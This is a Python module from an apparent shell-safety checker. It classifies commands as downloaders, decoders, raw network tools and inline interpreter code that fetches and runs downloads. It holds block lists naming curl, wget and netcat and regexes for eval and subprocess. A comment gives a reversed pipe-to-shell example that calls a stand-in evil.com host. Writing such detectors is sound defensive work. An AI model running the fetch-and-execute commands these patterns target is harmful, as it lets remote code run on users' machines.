"""What a command is, for the shell check: a download, a decoder, an interpreter (and whether it runs
what it reads on stdin), a wrapper around another command, inline code that fetches and runs a
download. Each takes a command's words (see :func:`skillforge.safety.shell_tree.words`). The rules about
package sources and TLS are in :mod:`skillforge.safety.shell_packages`, those about credentials sent
out in :mod:`skillforge.safety.shell_uploads`.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from skillforge.safety.shell_interpreters import base, program

DOWNLOADERS = frozenset(
    {
        "curl",
        "wget",
        "wget2",
        "fetch",
        "http",
        "https",
        "aria2c",
        "iwr",
        "irm",
        "invoke-webrequest",
        "invoke-restmethod",
        "lwp-download",
        "lwp-request",
        "xh",
    }
)
_UNPACK = ("d", frozenset({"-d", "--decompress", "--uncompress"}))
_DECODERS = {  # a decoder -> (its decode letter in a short group, its decode options)
    "base64": ("dD", frozenset({"-d", "--decode", "-D"})),
    "base32": ("d", frozenset({"-d", "--decode"})),
    "basenc": ("d", frozenset({"-d", "--decode"})),
    "xxd": ("r", frozenset({"-r", "-revert"})),
    **dict.fromkeys(("gzip", "xz", "bzip2", "zstd", "lzma", "brotli", "lz4"), _UNPACK),
}
_ALWAYS_DECODE = frozenset(
    {"uudecode", "gunzip", "zcat", "unxz", "xzcat", "bunzip2", "bzcat", "unzstd", "zstdcat"}
    | {"rev"}  # echo 'hs | p/moc.live//:ptth lruc' | rev | sh: the text run is not the text written
)
DECODERS = frozenset(_DECODERS) | _ALWAYS_DECODE | {"openssl"}  # every decoder's name
NETWORK = frozenset({"nc", "ncat", "netcat", "socat"})  # raw network commands (besides the downloads)
BUCKET_TOOLS = frozenset({"aws", "gsutil", "gcloud", "azcopy"})  # a download (s3 cp s3://… -) or an upload


def host_of(url: str) -> str:
    return url.split("://", 1)[-1].split("/", 1)[0]


def is_downloader(ws: list[str]) -> bool:
    """curl, wget …; ``aws s3 cp s3://… -``, ``gsutil cat``, ``gh api`` (content of a repository or a
    bucket); inline code that fetches a URL (``python -c "…urlopen('http://…')…"``)."""
    if not ws:
        return False
    name = base(ws[0])
    if name in DOWNLOADERS:
        return True
    operands = [w for w in ws[1:4] if not w.startswith("-")]
    if name == "aws" and operands[:2] == ["s3", "cp"]:
        return any(w.startswith("s3://") for w in ws)
    if name in ("gsutil", "gcloud"):
        return bool({"cat", "cp"} & set(operands[:3])) and any(w.startswith("gs://") for w in ws)
    if name == "gh":
        return operands[:1] == ["api"]
    return bool(inline_fetch(ws))


def is_decoder(ws: list[str]) -> bool:
    """base64 -d, xxd -r, gzip -d, gunzip, zcat, openssl base64 -d …: a command that turns data
    into what could be a script."""
    if not ws:
        return False
    name = base(ws[0])
    if name in _ALWAYS_DECODE:
        return True
    if name in _DECODERS:  # a glued group counts: base64 -di, gzip -dc, xxd -rp
        letters, flags = _DECODERS[name]
        return any(w in flags or (_short_group(w) and any(c in w[1:] for c in letters)) for w in ws[1:])
    return name == "openssl" and "-d" in ws and any("base64" in w or w == "-a" for w in ws)


def _short_group(word: str) -> bool:
    return len(word) > 1 and word[0] == "-" and word[1] != "-" and word[1:].isalpha()


_CODE_RUNNERS = frozenset({"python", "node", "perl", "ruby", "php", "deno", "bun", "pwsh", "powershell"})
_EVALUATES = re.compile(
    r"\b(?:exec|eval|execfile|compile|Function)\s*\(|\beval\s+[\w$]|\.then\(\s*eval\b|instance_eval"
)
# a process started from the code: what it fetched can be the command line (subprocess.run(r.text, …))
_RUNS_PROCESS = re.compile(
    r"\bsubprocess\b|\bos\.(?:system|popen|exec\w*|spawn\w*)\s*\(|child_process|\bexecSync\b|\bspawnSync\b|"
    r"\bsystem\s*\(|\bexec\s+[\w$]|\bpty\.spawn|Deno\.(?:run|Command)|Kernel\.(?:system|exec)|%x[\[({]|\bIO\.popen"
)
# the code fetches: urllib/requests/httpx, fetch(), LWP's get, open-uri, file_get_contents(URL), WebClient
_FETCHES = re.compile(
    r"\burlopen\b|\burlretrieve\b|\brequests\.\w+\(|\bhttpx\.\w+\(|\bfetch\s*\(|"
    r"\bget(?:store)?\s*\(?\s*[\"']https?:|"
    r"\bLWP\b|open-uri|URI\.open|Net::HTTP|file_get_contents|WebClient|Invoke-(?:WebRequest|RestMethod)|"
    r"\bhttps?\.get\s*\("
)
_CODE_URL = re.compile(r"https?://[^\s\"'`)]+")


def inline_code(ws: list[str]) -> list[str]:
    if not ws or program(ws[0]) not in _CODE_RUNNERS:
        return []
    return [code for code in ws[1:] if _CODE_URL.search(code)]


def inline_fetch(ws: list[str]) -> list[str]:
    """The URLs inline code fetches (``python -c "…urlopen('http://…')…"``), or []."""
    return [u for code in inline_code(ws) if _FETCHES.search(code) for u in _CODE_URL.findall(code)]


def plain_http_remote(url: str) -> bool:
    """A plain-http URL to another machine (``http://localhost.evil.com`` is one; ``HTTP://`` too)."""
    low = url.lower()
    return low.startswith("http://") and host_of(low).rsplit("@", 1)[-1].split(":")[0] not in _LOCAL_HOSTS


_LOCAL_HOSTS = frozenset({"localhost", "127.0.0.1", "[::1]"})


def fetches_and_evaluates(ws: list[str]) -> Iterator[tuple[str, str, str]]:
    """Inline code (``python -c``, ``node -e``, ``perl -e`` …) that fetches a URL and evaluates what it
    got, or hands it to a process (``subprocess.run(requests.get(…).text, shell=True)``, ``system(get
    …)``): a download run by an interpreter, as ``curl … | python`` (high over plain http, else low)."""
    for code in inline_code(ws):
        urls = _CODE_URL.findall(code)
        evaluates = bool(_EVALUATES.search(code))
        if evaluates or (_FETCHES.search(code) and _RUNS_PROCESS.search(code)):
            conf = "high" if any(plain_http_remote(u) for u in urls) else "low"
            how = "evaluates code" if evaluates else "runs a command"
            yield "pipe-to-shell", f"{program(ws[0])} {how} it downloads ({host_of(urls[0])})", conf
            return


_SHORT_OUTPUT = re.compile(r"-[A-Za-z]*?([oO])(.*)")  # -o F, -sLo F, -qO F, and glued: -o/tmp/i.sh, -qO-


def download_targets(ws: list[str]) -> set[str]:
    """The files a download writes: the value of its output option, in any of getopt's spellings
    (``-o F``, ``-sLoF``, ``--output F``, ``--output=F``), the URL's name (wget, curl -O), or the
    destination of a copy out of a bucket (``aws s3 cp s3://b/i.sh /tmp/i.sh``)."""
    out: set[str] = set()
    name = base(ws[0])
    if name in ("aws", "gsutil", "gcloud"):
        last = ws[-1]
        return set() if "://" in last or last.startswith("-") else {base(last)}
    for i, w in enumerate(ws):
        following = ws[i + 1] if i + 1 < len(ws) else ""
        flag, eq, value = w.partition("=")
        short = _SHORT_OUTPUT.fullmatch(w)
        if flag in ("--output", "--output-document"):
            out.add(base(value if eq else following))
        elif short and not (short[2] and short[1] == "O" and name == "curl"):  # curl -O takes none
            out.add(base(short[2] or following))
    if name in ("wget", "wget2") and not out:
        out.update(base(w.split("?")[0]) for w in ws[1:] if "://" in w)
    if name == "curl" and ("-O" in ws or "--remote-name" in ws):
        out.update(base(w.split("?")[0]) for w in ws[1:] if "://" in w)
    return {o for o in out if o and o != "-"}
